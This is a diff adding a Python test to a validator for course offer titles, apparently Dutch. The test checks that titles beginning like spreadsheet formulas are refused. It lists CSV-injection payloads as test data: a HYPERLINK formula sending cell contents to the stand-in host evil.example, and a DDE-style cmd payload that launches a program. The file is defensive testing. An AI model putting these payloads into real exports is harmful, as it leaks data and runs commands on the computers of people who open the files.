@@ -155,3 +155,22 @@ def test_every_result_has_a_message() -> None:
         "maybe-leisure",
     ]:  # fmt: skip
         assert c.message({"code": code}) != code
+
+
+def test_a_title_that_starts_like_a_spreadsheet_formula_is_refused() -> None:
+    """Issue 14, finding 4: such a title was admitted and reached the open spending CSV."""
+    for title in (
+        '=HYPERLINK("http://evil.example/?"&A1,"Klik")',
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+        "+31 cursus",
+        "-2+3 rekenen",
+        " =1+1+1",
+        "\tLassen",
+    ):
+        results = c.run(dataclasses.replace(OFFER, title=title), PROVIDER, ON)
+        assert [(r.code, r.severity, r.field) for r in results] == [
+            ("title-formula", c.BLOCK, "title")
+        ], title
+        assert "spreadsheet" in results[0].message
+    for title in ("Excel: =SOM en meer", "'s-Hertogenbosch: Nederlands", "2026: lassen"):
+        assert codes(dataclasses.replace(OFFER, title=title)) == []
